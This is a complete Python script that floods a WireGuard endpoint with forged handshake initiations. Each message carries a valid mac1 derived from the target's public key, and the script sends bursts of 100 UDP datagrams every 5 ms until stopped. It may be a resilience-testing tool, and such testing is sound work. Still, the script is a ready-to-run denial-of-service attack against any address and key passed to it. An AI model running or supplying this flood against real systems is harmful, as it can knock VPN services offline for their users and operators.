"""Floods a WireGuard port with initiations that only prove knowledge of the public key (mac1): what a stranger can send.

handshake_flood.py OWN_ADDRESS ADDRESS PORT PUBLIC_KEY    until SIGTERM; 100 datagrams each 5 ms
"""
import base64
import hashlib
import random
import signal
import socket
import sys
import threading

BURST = 100
PAUSE_SECONDS = 0.005


def initiation(rng, mac1_key):
    """Type 1 of the whitepaper, §5.4.2: 148 bytes, everything but mac1 at random; mac2 is zero."""
    body = b"\x01\0\0\0" + rng.randbytes(112)
    return body + hashlib.blake2s(body, key=mac1_key, digest_size=16).digest() + bytes(16)


def main():
    own, address, port, key = sys.argv[1:]
    mac1_key = hashlib.blake2s(b"mac1----" + base64.b64decode(key)).digest()
    rng = random.Random(1)
    messages = [initiation(rng, mac1_key) for _ in range(500)]
    stopped = threading.Event()
    signal.signal(signal.SIGTERM, lambda *_: stopped.set())
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind((own, 0))
    while not stopped.wait(PAUSE_SECONDS):
        for message in rng.sample(messages, BURST):
            sock.sendto(message, (address, int(port)))


main()
